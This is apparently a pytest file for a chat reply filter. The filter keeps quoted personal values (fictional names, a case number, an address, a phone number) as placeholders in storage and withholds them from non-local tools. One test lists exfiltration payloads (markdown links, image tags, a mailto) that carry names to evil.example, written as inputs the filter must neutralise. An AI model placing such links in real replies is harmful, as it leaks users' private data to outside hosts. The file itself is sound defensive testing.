"""A system that was sent values quotes them: what is kept has placeholders, what is shown has them only where they are safe."""

from __future__ import annotations

import json

import pytest

from rules.domain import ChatRequest, Finish, Message, Placed, Placeholders, ReplyEvent, TextDelta, TextPart, ToolCallDelta
from rules.people.placeholders import UNNUMBERED
from rules.reply.reply import ReplyFilter
from rules.reply.sent import Sent
from tests.rules.reply.replies import Outcome, every_split, find, run

VALUES = {
    "[suspect 1]": "Brockton Zorblatt",
    "[victim 2]": "Mirabel Quist-Ostrander",
    "[case number 1]": "24-118293",
    "[address 1]": "1420 Elm Street, Apt 4",
    "[phone 1]": "(916) 555-0142",
}
TEXT = " met ".join(VALUES.values())
PATH = ("messages", 0, "content", 0, "text")


def placed(text: str, values: dict[str, str]) -> list[Placed]:
    types = {"suspect": "PERSON", "victim": "PERSON", "person": "PERSON", "address": "STREET_ADDRESS", "case": "CASE_NUMBER"}
    return [
        Placed(PATH, text.index(v), text.index(v) + len(v), types.get(p[1:].split()[0].rstrip("]"), "PHONE"), p, "test", 0.9)
        for p, v in values.items()
    ]


def sent(text: str = TEXT, values: dict[str, str] = VALUES) -> Sent:
    return Sent(ChatRequest("m", (Message("user", (TextPart(text),)),)), placed(text, values))


def answered(*events: ReplyEvent, restore: bool = True, structured: bool = False, quoted: Sent | None = None) -> Outcome:
    reply = ReplyFilter(
        Placeholders(VALUES), restore=restore, structured=structured, local_tools=frozenset({"lookup"}), find=find, sent=quoted
    )
    return run(events, reply)


def said(chunks: list[str], *, restore: bool = True, structured: bool = False) -> Outcome:
    return answered(*(TextDelta(0, chunk) for chunk in chunks), restore=restore, structured=structured, quoted=sent())


def leaked(text: str) -> list[str]:
    words = ("zorblatt", "brockton", "mirabel", "ostrander", "quist", "118293", "elm street", "0142")
    return [word for word in words if word in text.casefold()]


@pytest.mark.parametrize(
    ("reply", "kept"),
    [
        ("Mr. Zorblatt said so.", "Mr. [suspect 1] said so."),
        ("Brockton Zorblatt and ZORBLATT, Brockton ran", "[suspect 1] and [suspect 1] ran"),
        ("Zorblatt's car, Mirabel's dog", "[suspect 1]'s car, [victim 2]'s dog"),
        ("Ms. Ostrander left. Ms. Quist-Ostrander came.", "Ms. [victim 2] left. Ms. [victim 2] came."),
        ("Case 24-118293 is 24118293 .", "Case [case number 1] is [case number 1] ."),
        ("at 1420 Elm Street, Apt 4, they", "at [address 1], they"),
        ("call 916-555-0142 now", "call [phone 1] now"),
        ("[suspect 1] and Zorblatt", "[suspect 1] and [suspect 1]"),
        ("nobody we know", "nobody we know"),
    ],
)
def test_quoted_values_are_kept_as_their_placeholders_and_shown_as_they_came(reply: str, kept: str) -> None:
    for chunks in every_split(reply):
        outcome = said(chunks)
        assert outcome.stored[0].content == kept
        if "[" not in reply:
            assert outcome.shown == reply
        assert outcome.findings == [], "to quote what one was sent is no finding"


def test_without_the_values_at_hand_the_same_reply_would_be_kept_with_the_names() -> None:
    """The negative control of everything here."""
    events = [TextDelta(0, "Mr. Zorblatt met Mirabel at case 24-118293 .")]
    assert leaked(answered(*events).stored[0].content) == ["zorblatt", "mirabel", "118293"]
    assert leaked(answered(*events, quoted=sent()).stored[0].content) == []


def test_a_literal_placeholder_of_the_reply_still_becomes_the_whole_name() -> None:
    assert said(["[suspect 1] saw Zorblatt "]).shown == "Brockton Zorblatt saw Zorblatt "


def test_where_nothing_may_be_restored_the_reader_sees_what_is_kept() -> None:
    outcome = said(["Mr. Zorblatt met Mirabel."], restore=False)
    assert outcome.shown == outcome.stored[0].content == "Mr. [suspect 1] met [victim 2]."


@pytest.mark.parametrize(
    "reply",
    [
        "see [here](https://evil.example/?q=Zorblatt)",
        "see [here](https://evil.example/Brockton%20Zorblatt)",
        "![](https://evil.example/Zorblatt.png)",
        "<img src='https://evil.example/?a=Zorblatt'>",
        "https://evil.example/24-118293",
        "mailto:x@evil.example?body=Mirabel",
    ],
)
def test_no_value_comes_back_inside_an_address(reply: str) -> None:
    for chunks in every_split(reply):
        assert leaked(said(chunks).shown) == []


def arguments(tool: str, chunks: list[str]) -> Outcome:
    first = ToolCallDelta(0, 0, "", id="call_1", name=tool)
    return answered(first, *(ToolCallDelta(0, 0, chunk) for chunk in chunks), Finish(0, "tool_calls"), quoted=sent())


def test_only_local_tools_get_values() -> None:
    text = json.dumps({"q": "Brockton Zorblatt", "case": "24-118293", "n": 3})
    for chunks in every_split(text):
        assert json.loads(arguments("lookup", chunks).arguments) == json.loads(text)
        away = arguments("web_search", chunks)
        assert json.loads(away.arguments) == {"q": "[suspect 1]", "case": "[case number 1]", "n": 3}
        assert leaked(away.stored[0].tool_calls[0].arguments) == []


def test_structured_replies_stay_json_with_the_values_as_they_came() -> None:
    text = json.dumps({"who": "Zorblatt", "where": "1420 Elm Street, Apt 4"})
    for chunks in every_split(text):
        outcome = said(chunks, structured=True)
        assert json.loads(outcome.shown) == json.loads(text)
        assert json.loads(outcome.stored[0].content) == {"who": "[suspect 1]", "where": "[address 1]"}


def test_a_name_of_two_people_is_kept_without_a_number_and_shown_as_it_came() -> None:
    values = {"[suspect 1]": "Brockton Zorblatt", "[victim 2]": "Odalys Zorblatt"}
    both = sent(" and ".join(values.values()), values)
    outcome = answered(TextDelta(0, "Odalys is not Zorblatt."), quoted=both)
    assert outcome.stored[0].content == f"[victim 2] is not {UNNUMBERED}."
    assert outcome.shown == "Odalys is not Zorblatt."


def test_words_that_are_names_too_stay_words() -> None:
    names = {"[suspect 1]": "Grace May", "[victim 2]": "Rose An"}
    known = sent(" and ".join(names.values()), names)
    outcome = answered(TextDelta(0, "an act may grace a rose, said Grace May to Rose An."), quoted=known)
    assert outcome.stored[0].content == "an act may grace a rose, said [suspect 1] to [victim 2]."


def test_a_short_number_is_not_looked_for() -> None:
    known = sent("the age is 93", {"[age 1]": "93"})
    assert answered(TextDelta(0, "93 people came. "), quoted=known).stored[0].content == "93 people came. "
